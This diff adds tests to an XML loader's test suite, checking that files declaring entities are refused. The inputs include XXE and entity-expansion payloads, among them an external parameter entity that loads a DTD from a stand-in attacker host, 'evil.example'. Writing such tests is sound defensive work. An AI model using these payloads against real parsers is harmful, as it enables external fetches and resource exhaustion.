@@ -75,6 +75,19 @@ describe('broken files are refused with name, line and reason', () => {
     expect(refusal('xxe.xml', fetching)?.reason).toMatch(/declares entities/);
   });
 
+  it.each([
+    ['a parameter entity that is used', '<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;', '&b;'],
+    ['a long one', `<!ENTITY a "${'a'.repeat(65)}">`, '&a;'],
+    ['one with elements', '<!ENTITY a "<b/>">', '&a;'],
+    ['more than any file has', '<!ENTITY a "b">'.repeat(1001), '&a;'],
+    ['in a long DOCTYPE', `<!ENTITY a "b">${' '.repeat(100_000)}`, '&a;'],
+    ['one that is cut off', '<!ENTITY a "', '&a;'],
+    ['one that names another by its number', '<!ENTITY a "&#38;b;"> <!ENTITY b "bb">', '<b>&a;</b>&c;'],
+  ])('entities: %s', (_, declared, used) => {
+    const text = `<!DOCTYPE article [${declared}]>\n<article>${used}</article>`;
+    expect(refusal('a.xml', text)).toBeDefined();
+  });
+
   it('an undeclared entity, at its line', () => {
     const text = changed(xml, 'We thank the sea.', 'We thank&nosuch;the sea.');
     expect(refusal('a.xml', text)).toMatchObject({
